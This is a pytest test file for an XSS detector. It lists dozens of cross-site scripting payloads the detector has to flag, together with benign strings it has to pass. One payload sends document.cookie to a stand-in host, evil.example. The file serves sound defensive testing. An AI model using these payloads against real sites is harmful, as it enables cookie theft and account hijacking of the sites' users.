"""bastion.detect.xss: must-match / must-not-match per context, and libinjection's XSS data."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bastion.detect.xss import XssResult, xss_check
from libinjection_corpus import CORPUS, corpus_lines, needs_corpus, samples

MUST_MATCH = [
    # HTML: script and active content
    ("<script>alert('XSS')</script>", "html"),
    ("<scr<script>ipt>alert('XSS')</scr<script>ipt>", "html"),
    ("<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "html"),
    ("<scr\x00ipt>confirm(0)</scr\x00ipt>", "html"),
    ("<iframe src=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>", "html"),
    ("<object data=\"javascript:alert(1)\">", "html"),
    ("<embed src=\"data:text/html;base64,PHNjcmlwdD4=\">", "html"),
    ("<BASE HREF=\"javascript:alert('XSS');//\">", "html"),
    ("<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">", "html"),
    # HTML: event handlers, any tag, any separator
    ("<img src=x onerror=alert(1)>", "html"),
    ("\"><svg/onload=alert(String.fromCharCode(88,83,83))>", "html"),
    ("<details/open/ontoggle=\"alert`1`\">", "html"),
    ("<x onclick=alert(1)>click this!", "html"),
    ("<body onload=alert(1)>", "html"),
    ("<svg><set attributeName=\"onmouseover\" to=\"alert(1)\"/>", "html"),
    ("<img src=x onerror=alert(1)//", "html"),
    # HTML: script URLs with obfuscation, srcdoc, CSS
    ("<a href=\"javascript:alert(1)\">x</a>", "html"),
    ("<a href=\"jAvAsCrIpT&colon;alert&lpar;1&rpar;\">X</a>", "html"),
    ("<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">X</a>", "html"),
    ("<IMG SRC=\"jav\tascript:alert('XSS');\">", "html"),
    ("<IMG SRC=\" &#14;  javascript:alert('XSS');\">", "html"),
    ("<form><button formaction=javascript:alert(1)>CLICKME", "html"),
    ("<math><a xlink:href=\"javascript:alert(1)\">x", "html"),
    ("<svg><a><animate attributeName=href values=javascript:alert(1) />", "html"),
    ("<iframe srcdoc=\"<img src=x onerror=alert(1)>\">", "html"),
    ("<DIV STYLE=\"width: expression(alert('XSS'));\">", "html"),
    ("<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">", "html"),
    ("<STYLE>@import'http://xss.rocks/xss.css';</STYLE>", "html"),
    # attribute breakout
    ("\" onmouseover=\"alert(1)", "attribute"),
    ("' autofocus onfocus='alert(1)", "attribute"),
    ("x onerror=alert(1)", "attribute"),
    ("\" style=\"x:expression(alert(1))", "attribute"),
    # URLs
    ("javascript:alert(1)", "url"),
    ("  JaVaScRiPt:alert(document.domain)", "url"),
    ("javascript://%0Aalert(1)", "url"),
    ("[click](javascript:alert(1))", "url"),
    ("data:text/html,<script>alert(1)</script>", "html"),
    ("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "url"),
    # JS string breakout
    ("';alert(String.fromCharCode(88,83,83))//", "js"),
    ("'-alert(1)-'", "js"),
    ("\";alert(document.cookie)//", "js"),
    ("\\'-alert(1)//", "js"),
    ("'-confirm`1`-'", "js"),
    ("\"}};fetch('//evil.example/?c='+document.cookie)//", "js"),
    # a value that is nothing but a script call, JSFuck, normalized fullwidth markup, VML, meta refresh
    ("alert(document.domain)", "js"),
    ("prompt`1`", "js"),
    ("[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]", "js"),
    ("\uff1cscript \uff1ealert(1)\uff1c/script\uff1e", "html"),
    ("<v:vmlframe src=\"foo.com/sup.fml\"/>", "html"),
    ("<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">", "html"),
    # client-side templates
    ("{{constructor.constructor('alert(1)')()}}", "template"),
    ("{{$on.constructor('alert(1)')()}}", "template"),
]

MUST_NOT_MATCH = [
    "I <3 this product!",
    "a < b and c > d",
    "if x<y and y>z then done",
    "<b>Bold</b> and <i>italic</i> and <p>para</p>",
    "<a href=\"https://example.com/docs?x=1&amp;y=2\">docs</a>",
    "<img src=\"https://cdn.example.com/a.png\" alt=\"cat\" width=\"300\">",
    "<svg width=\"10\" height=\"10\"><circle cx=\"5\" cy=\"5\" r=\"4\"/></svg>",
    "Use `document.getElementById('x')` to find it",
    "**Markdown** with [a link](https://example.com) and `code`",
    "The onload event fires when the page is loaded",
    "Online ordering is available; onboarding=done",
    "He said \"stop\" -- and left; then 'alert' the team",
    "Please confirm (yes or no)",
    "{{ user.name }} template",
    "I'm learning javascript: it is fun",
    "data: {\"a\": 1}",
    "email me at a@b.com <Alice>",
    "x => x * 2; const y = 'a' + b;",
    "It's 'great'; really, alert everyone!",
    "<table><tr><td>1</td></tr></table>",
    "<ul><li>item</li></ul> and <code>x &lt; y</code>",
    "&lt;script&gt;alert(1)&lt;/script&gt; is escaped, so it is text",
    "```python\nif row['name'] == \"O'Brien\":\n    print(row)\n```",
    "Please select your drop-off location; we'll meet you there (O'Brien's)",
    "<Frame filename=%r lineno=%r>",
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==",
    "See https://example.com/#top and mailto:someone@example.com",
    "",
    "<3",
    "Please alert(me) when the build is done",
    "alert('Saved!') is called after save",
    "print()",
]


@pytest.mark.parametrize(("value", "context"), MUST_MATCH)
def test_must_match(value: str, context: str) -> None:
    result = xss_check(value)
    assert isinstance(result, XssResult), value
    assert result.context == context, result
    assert result.reason and result.evidence


@pytest.mark.parametrize("value", MUST_NOT_MATCH)
def test_must_not_match(value: str) -> None:
    assert xss_check(value) is None


def test_evidence_is_short() -> None:
    r = xss_check("<img src=x onerror=" + "alert(1);" * 500 + ">")
    assert r is not None and len(r.evidence) <= 48


def test_long_rich_text_stays_quiet() -> None:
    text = ("<p>Thanks, <b>great</b> work! See <a href=\"https://example.com/a?b=1\">this</a> -- 5 < 6 > 4 "
            "and location.reload is not called (O'Brien).</p>\n") * 50
    assert xss_check(text) is None


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=200))
def test_never_raises(value: str) -> None:
    r = xss_check(value)
    assert r is None or isinstance(r, XssResult)




@needs_corpus
def test_libinjection_xss_samples_detection_rate() -> None:
    lines = samples("xss-*.txt")
    hits = sum(1 for v in lines if xss_check(v) is not None)
    assert hits / len(lines) >= 0.95, f"{hits}/{len(lines)}"


@needs_corpus
def test_libinjection_false_positives_not_xss() -> None:
    flagged = [v for v in corpus_lines(CORPUS / "data" / "false_positives.txt") if xss_check(v) is not None]
    assert flagged == []


def test_adversarial_values_stay_linear() -> None:
    # these once cost seconds (a lazy regex rescanned from every '{{' / 'data:')
    import time

    for value in ("{{" * 4000, '<a href="' + "data:" * 1600, "<a " * 2700, " onx=" * 1600, "<" * 8000):
        t0 = time.perf_counter()
        xss_check(value)
        assert time.perf_counter() - t0 < 1.0, value[:20]


def _benign_values() -> list[str]:
    """Query arguments, form fields and JSON strings of tests/data/benign_requests.jsonl."""
    import json
    from urllib.parse import parse_qsl

    out: list[str] = []
    for line in (Path(__file__).parent / "data" / "benign_requests.jsonl").read_text(encoding="utf-8").splitlines():
        req = json.loads(line)
        if "?" in req["target"]:
            out += [v for kv in parse_qsl(req["target"].split("?", 1)[1]) for v in kv]
        body, ct = req["body"], req["content_type"]
        if "json" in ct:
            stack = [json.loads(body)]
            while stack:
                o = stack.pop()
                if isinstance(o, dict):
                    out += [str(k) for k in o]
                    stack += list(o.values())
                elif isinstance(o, list):
                    stack += o
                elif isinstance(o, str):
                    out.append(o)
        elif "urlencoded" in ct:
            out += [v for kv in parse_qsl(body) for v in kv]
    return out


def test_benign_corpus_values_pass() -> None:
    values = _benign_values()
    assert len(values) > 10_000
    flagged = [v for v in values if xss_check(v) is not None]
    assert len(flagged) <= len(values) // 1000, flagged[:5]


@pytest.mark.parametrize("value", [
    '<figure class="media"><iframe width="560" height="315" src="https://www.youtube.com/embed/dQw4w9WgXcQ?si=Xy12" '
    'title="YouTube video player" frameborder="0" allow="autoplay; encrypted-media" allowfullscreen></iframe></figure>',
    '<iframe src="https://player.vimeo.com/video/76979871?h=8272103f6e" allowfullscreen></iframe>',
    '<iframe src="https://www.google.com/maps/embed?pb=!1m18!1m12" width="600" height="450" loading="lazy"></iframe>',
    '<iframe src="https://open.spotify.com/embed/track/4uLU6hMCjMI75M1A2tKUQC" height="152"></iframe>',
    '<iframe src="https://www.loom.com/embed/0281766fa2d04bb788eaf19e65135184" allowfullscreen></iframe>',
])
def test_provider_embeds_in_rich_text_pass(value: str) -> None:
    assert xss_check(value) is None


@pytest.mark.parametrize("value", [
    '<iframe src="https://www.youtube.com/embed/x" onload="alert(1)"></iframe>',
    '<iframe src="https://evil.example/phish"></iframe>',
    '<iframe src="http://www.youtube.com/embed/x"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;" src="https://www.youtube.com/embed/x"></iframe>',
    '<iframe src=https://www.youtube.com/embed/x/../../redirect?q=javascript:alert(1)>',
    '<iframe src="javascript:alert(1)"></iframe>',
])
def test_other_frames_still_count(value: str) -> None:
    assert xss_check(value) is not None
